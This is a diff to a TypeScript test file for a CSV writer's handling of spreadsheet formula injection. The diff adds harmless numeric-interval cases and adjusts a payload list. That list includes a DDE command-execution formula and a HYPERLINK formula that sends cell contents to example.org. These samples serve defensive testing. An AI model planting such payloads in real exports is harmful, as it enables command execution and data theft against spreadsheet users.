@@ -42,7 +42,7 @@ describe("CSV writer", () => {
 
   test.each(["refuse", "quote", "keep"] as const)("formulas: %s", async (formulas) => {
     const payloads = FORMULAS;
-    const harmless = ["-5", "+3.25", "-1e9", "-", "---", " -5", "12%", "a=b", "x@y.z", "1-2", "-5,5"];
+    const harmless = ["-5", "+3.25", "-1e9", "-", "---", " -5", "12%", "a=b", "x@y.z", "1-2", "-5,5", "-10 to -6", "-0.5 to 2.25"]; // intervals as hierarchies write them
     for (const value of payloads) {
       const written = csv([{ name: "a", type: "string", values: [value] }], { formulas });
       if (formulas === "refuse") await expect(written).rejects.toMatchObject({ name: "DataError", code: "csv/formula", detail: { column: "a", records: 1 } });
@@ -192,7 +192,7 @@ describe("numbers", () => {
 /** Starts that spreadsheets run, after the OWASP page on CSV injection, with spaces and full-width forms added. */
 const FORMULAS = [
   "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", " =1+1", "   @x",
-  '=HYPERLINK("http://example.org?x="&A1,"more")', "+A1", "-A1", "=-5", "--A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "-5 to 5", "+1 916 555",
+  '=HYPERLINK("http://example.org?x="&A1,"more")', "+A1", "-A1", "=-5", "--A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "-5 to x", "-5 to 5()", "+1 916 555",
 ]; // prettier-ignore
 
 test.each(FORMULAS)("%j is seen as a formula", (payload) => {
